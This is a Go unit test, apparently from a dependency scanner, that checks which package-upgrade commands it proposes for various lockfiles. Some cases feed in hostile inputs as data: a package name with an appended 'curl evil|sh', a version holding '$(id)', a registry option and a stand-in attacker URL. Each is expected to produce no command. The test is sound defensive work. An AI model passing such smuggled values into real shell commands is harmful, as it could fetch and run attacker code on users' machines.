package findings

import (
	"strings"
	"testing"

	"github.com/redoubt/redoubt/api"
	"github.com/redoubt/redoubt/internal/web/component"
)

// TestUpgrades checks that the nearest safe version is proposed with the tool of the lockfile. The
// command must not contain names that a shell could interpret.
func TestUpgrades(t *testing.T) {
	for name, c := range map[string]struct {
		file, pkg, version, ecosystem, transitivity string
		fixes                                       []string
		want                                        string
	}{
		"npm":                    {"web/package-lock.json", "@babel/core", "7.0.0", "npm", "direct", []string{"8.0.1", "7.26.10"}, "web: npm install @babel/core@7.26.10"},
		"npm, through others":    {"package-lock.json", "lodash", "4.17.0", "npm", "transitive", []string{"4.17.21"}, "npm update lodash"},
		"yarn, through others":   {"yarn.lock", "lodash", "4.17.0", "npm", "transitive", []string{"4.17.21"}, ""},
		"go":                     {"go.mod", "golang.org/x/net", "0.1.0", "gomod", "transitive", []string{"0.38.0"}, "go get golang.org/x/net@v0.38.0"},
		"numbers, not letters":   {"Cargo.lock", "tokio", "1.9.0", "cargo", "direct", []string{"1.10.0", "1.8.4"}, "cargo update tokio@1.9.0 --precise 1.10.0"},
		"a file of requirements": {"requirements/dev.txt", "urllib3", "1.26.4", "pypi", "direct", []string{"1.26.19"}, ""},
		"requirements.txt":       {"app/requirements.txt", "urllib3", "1.26.4", "pypi", "direct", []string{"1.26.19", "2.2.2"}, "app= urllib3==1.26.19"},
		"no safe version":        {"package-lock.json", "lodash", "4.17.0", "npm", "direct", nil, ""},
		"only older ones":        {"package-lock.json", "lodash", "4.17.0", "npm", "direct", []string{"3.10.2"}, ""},
		"a hostile package":      {"package-lock.json", "lodash;curl evil|sh", "4.17.0", "npm", "direct", []string{"4.17.21"}, ""},
		"an option":              {"package-lock.json", "--registry=http:evil", "4.17.0", "npm", "direct", []string{"4.17.21"}, ""},
		"Go itself":              {"go.mod", "stdlib", "1.24.1", "gomod", "direct", []string{"1.24.3"}, "go get go@1.24.3"},
		"an address":             {"package-lock.json", "https://evil.example/x.tgz", "4.17.0", "npm", "direct", []string{"4.17.21"}, ""},
		"an alias":               {"package-lock.json", "lodash", "4.17.0", "strange", "direct", []string{"npm:evil@9.0"}, ""},
		"a git source":           {"package-lock.json", "evil/x", "4.17.0", "npm", "direct", []string{"4.17.21"}, ""},
		"another ecosystem":      {"package-lock.json", "lodash", "4.17.0", "pypi", "direct", []string{"4.17.21"}, ""},
		"vendor and name":        {"composer.lock", "symfony/http-kernel", "6.0.0", "composer", "direct", []string{"6.4.1"}, "composer update symfony/http-kernel"},
		"a hostile version":      {"package-lock.json", "lodash", "4.17.0", "npm", "direct", []string{"5.0.0$(id)"}, ""},
		"an unknown file":        {"bom.json", "lodash", "4.17.0", "npm", "direct", []string{"4.17.21"}, ""},
	} {
		f := component.ShownFinding{Finding: api.Finding{FoundDependency: &api.FoundDependency{Package: c.pkg, Version: c.version, Ecosystem: c.ecosystem, Transitivity: c.transitivity}}}
		f.Location.FilePath = c.file
		for _, v := range append([]string{}, c.fixes...) {
			f.FixRecommendations = append(f.FixRecommendations, api.FixRecommendation{Package: c.pkg, Version: v})
		}
		got := ""
		if u := upgradeOf(f); u != nil {
			got = strings.TrimPrefix(u.In+": "+u.Command, ": ")
			if u.Line != "" {
				got = u.In + "= " + u.Line
			}
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
